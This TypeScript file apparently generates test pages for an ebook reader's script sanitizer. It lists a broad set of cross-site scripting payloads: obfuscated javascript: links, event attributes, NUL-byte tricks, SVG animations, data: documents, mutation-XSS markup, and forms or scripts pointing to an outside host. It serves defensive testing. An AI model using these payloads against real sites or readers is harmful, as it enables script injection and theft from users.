// Scripts in every place of a page that can hold one.

import { type Case, type Outside, PRESS, act, escaped, page } from "./case";

const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';
const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

/** Events that come by themselves, and those that come when something is pressed. */
const EVENTS = [
  ...["load", "error", "pageshow", "resize", "scroll", "focus", "blur", "hashchange", "message", "readystatechange"],
  ...["click", "mousedown", "mouseup", "mouseover", "mousemove", "mouseenter", "pointerdown", "pointerup", "pointerover"],
  ...["touchstart", "contextmenu", "dblclick", "wheel", "keydown", "keyup", "copy", "selectstart", "dragstart"],
  ...["animationstart", "animationend", "transitionend", "toggle", "beforetoggle", "securitypolicyviolation"],
];

export function markup(outside: Outside): Case[] {
  const run = (how: string) => act(outside, how);
  const pressed = (how: string, inner: string) => `<p><a class="${PRESS}" ${inner}>${how}</a></p>`;
  const events = (how: string) => EVENTS.map((event) => `on${event}="${run(how)}"`).join(" ");
  const broken = (inner: string) => `<p><b>Tags that do not match</p></b>${inner}`;
  return [
    page(
      "Plain Scripts",
      "script elements of every kind",
      `<script>${run("body")}</script><script src="evil.js"></script><script src="${outside("script")}"></script>` +
        `<script type="module">${run("module")}</script><script async="async" defer="defer" src="data:text/javascript,${escaped(run("data"))}"/>`,
      { head: `<script>${run("head")}</script><script src="evil.js"/>`, extra: { "evil.js": run("file") } },
    ),
    page("Events", "every event attribute", `<p class="${PRESS}" style="animation: x 1ms" tabindex="0" ${events("events")}>Press</p><img alt="gone" src="gone.png" ${events("image")}/>`),
    page(
      "Odd Events",
      "event attributes in odd spellings",
      broken(
        `<p class="${PRESS}" ONCLICK="${run("case")}" oNmOuSeOvEr=${run("bare").replace(/[\s{}]/g, "")}>Press</p>` +
          `<img src=gone.png alt=gone\nonerror\n=\n"${run("lines")}"><img/src=gone.png/alt=gone/onerror="${run("slash")}">` +
          `<img src="gone.png" alt="gone" &#111;nerror="${run("entity")}" x:onerror="${run("prefix")}"><svg/onload="${run("svg")}">`,
      ),
    ),
    page(
      "NUL Bytes",
      "NUL and control characters within names",
      `<scr\u0000ipt>${run("nul")}</scr\u0000ipt><img alt="gone" src="gone.png" on\u0000error="${run("nul-attribute")}" \u0001onerror="${run("control")}"/>` +
        pressed("nul", `href="java\u0000script:${run("nul-link")}"`),
    ),
    page(
      "Prefixed Scripts",
      "scripts in namespaces, declared and not",
      `<html:script xmlns:html="http://www.w3.org/1999/xhtml">${run("html")}</html:script><xhtml:script>${run("xhtml")}</xhtml:script>` +
        `<math xmlns="http://www.w3.org/1998/Math/MathML"><svg:script xmlns:svg="http://www.w3.org/2000/svg">${run("math")}</svg:script></math>` +
        `<s:script xmlns:s="http://www.w3.org/2000/svg" href="evil.js"/>`,
      { extra: { "evil.js": run("file") } },
    ),
    page(
      "Drawings",
      "scripts, animations and links of SVG",
      `<svg ${SVG} width="200" height="80" onload="${run("load")}"><title>A drawing</title><script>${run("script")}</script><script xlink:href="evil.js"/>` +
        `<foreignObject width="9" height="9"><body ${XHTML} onload="${run("foreign")}"><script>${run("foreign-script")}</script></body></foreignObject>` +
        `<use href="data:image/svg+xml,${escaped(`<svg ${SVG} id="x"><script>${run("use")}</script></svg>`)}#x"/>` +
        `<a class="${PRESS}" xlink:href="javascript:${run("link")}"><text y="20">one</text></a>` +
        `<a class="${PRESS}" href="#x"><animate attributeName="href" to="javascript:${run("animate")}" dur="1ms" fill="freeze"/><text y="40">two</text></a>` +
        `<a class="${PRESS}"><set attributeName="xlink:href" to="javascript:${run("set")}"/><text y="60">three</text></a>` +
        `<rect width="9" height="9"><animate attributeName="x" dur="1ms" onbegin="${run("begin")}" onend="${run("end")}"/></rect></svg>`,
      { extra: { "evil.js": run("file") } },
    ),
    page(
      "Links That Run",
      "links whose scheme runs, in every spelling",
      ["javascript:", " JaVaScRiPt:", "java&#9;script:", "java&#10;script:", "&#1;javascript:", "&#106;avascript:", "&#x6A;avascript&#58;", "vbscript:", "livescript:"]
        .map((scheme, index) => pressed(`link ${index}`, `href="${scheme}${run(`link-${index}`)}"`))
        .join("") + `<map name="m"><area class="${PRESS}" shape="rect" coords="0,0,9,9" href="javascript:${run("area")}"/></map>`,
    ),
    page(
      "Names of HTML",
      "references that only HTML knows, where the page has to become HTML",
      broken(["javascript&colon;", "java&Tab;script:", "java&NewLine;script:", "&#X6A;avascript:"].map((scheme, index) => pressed(`name ${index}`, `href="${scheme}${run(`name-${index}`)}"`)).join("")),
    ),
    page(
      "Documents of Data",
      "data: documents as links, frames and objects",
      ["text/html", "application/xhtml+xml", "image/svg+xml", "text/xml", "application/rss+xml"]
        .map((type) => {
          const url = `data:${type},${encodeURIComponent(`<html ${XHTML}><script>${run("data")}</script></html>`)}`;
          return `${pressed(type, `href="${url}"`)}<iframe title="f" src="${url}"></iframe><object data="${url}" type="${type}"></object><embed src="${url}"/>`;
        })
        .join(""),
    ),
    page(
      "Pages Within",
      "frames of the book's own documents, srcdoc, frames that run",
      `<iframe title="own" src="inner.xhtml"></iframe><iframe title="svg" src="inner.svg"></iframe><object data="inner.svg" type="image/svg+xml"></object>` +
        `<iframe title="own html" src="inner.html"></iframe><embed src="inner.svg"/><iframe title="s" srcdoc="${escaped(`<script>${run("srcdoc")}</script>`)}"></iframe>` +
        `<iframe title="j" src="javascript:${run("frame")}"></iframe><iframe title="itself" src="c01.xhtml"></iframe>`,
      {
        extra: {
          "inner.xhtml": `<html ${XHTML}><head><title>t</title><script>${run("inner")}</script></head><body onload="${run("inner-load")}"><p>Inner.</p></body></html>`,
          "inner.html": `<!--><script>${run("comment")}</script>--><![CDATA[><img src=x onerror="${run("cdata")}">]]><p>Inner.</p>`,
          "inner.svg": `<svg ${SVG}><script>${run("inner-svg")}</script></svg>`,
        },
      },
    ),
    page(
      "CDATA and Comments",
      "what XML and HTML read differently",
      `<![CDATA[><img src=x onerror="${run("cdata")}">]]><p><![CDATA[<script>${run("cdata-script")}</script>]]></p>` +
        `<!--><img src=x onerror="${run("comment")}"/>--><!-- a --!><script>${run("bang")}</script> -->` +
        `<?a ><script>${run("instruction")}</script>?>`,
    ),
    page(
      "Mutations",
      "markup that changes its meaning when it is read again",
      broken(
        `<noscript><p title="</noscript><script>${run("noscript")}</script>"></p></noscript>` +
          `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${escaped(run("mglyph"))}&gt;">` +
          `<svg></p><style><a id="</style><img src=x onerror=${escaped(run("style"))}>">` +
          `<select><template><script>${run("template")}</script></template></select><xmp><script>${run("xmp")}</script></xmp>` +
          `<noembed><img src=x onerror="${run("noembed")}"></noembed><title></title><script>${run("title")}</script></title>`,
      ),
    ),
    page(
      "Tags That Do Not Match",
      "mis-nested and unclosed tags around scripts",
      `<p><i></p><script>${run("one")}</script></i><table><td><a class="${PRESS}" href="javascript:${run("table")}">a<table><script <b>${run("half")}</script><img alt="gone" src=gone.png onerror="${run("unclosed")}"`,
    ),
    page("Plain Text", "an element that turns the rest into text", broken(`<plaintext><script>${run("plaintext")}</script>`)),
    page(
      "Shadow Roots",
      "templates and declarative shadow roots",
      `<div><template shadowrootmode="open"><script>${run("shadow")}</script><img src="gone.png" alt="gone" onerror="${run("shadow-image")}"/></template></div><template><script>${run("template")}</script></template>`,
    ),
    page(
      "Forms",
      "forms, buttons and what takes the focus by itself",
      `<form action="${outside("form")}" method="post" target="_top"><p><input name="a" value="b" autofocus="autofocus" onfocus="${run("focus")}"/>` +
        `<button class="${PRESS}" type="submit">send</button><button class="${PRESS}" formaction="javascript:${run("formaction")}">run</button>` +
        `<button class="${PRESS}" formaction="${outside("formaction")}" formtarget="_blank">blank</button><input class="${PRESS}" type="image" alt="go" src="gone.png" formaction="${outside("image-form")}"/></p></form>` +
        `<form class="${PRESS}" action="javascript:${run("action")}"><p><input type="submit" class="${PRESS}" value="go"/></p></form>`,
    ),
    page(
      "Old Ways",
      "attributes and elements of old browsers",
      broken(
        `<img alt="gone" src="javascript:${run("src")}" lowsrc="javascript:${run("lowsrc")}" dynsrc="javascript:${run("dynsrc")}"><table background="javascript:${run("background")}"><td>a</table>` +
          `<applet code="javascript:${run("applet")}" archive="${outside("applet.jar")}"></applet><marquee onstart="${run("marquee")}">a</marquee><isindex action="javascript:${run("isindex")}">` +
          `<object classid="clsid:1" codebase="${outside("codebase")}"><param name="src" value="javascript:${run("param")}"></object><bgsound src="${outside("bgsound")}"><layer src="${outside("layer")}"></layer>`,
      ),
    ),
  ];
}
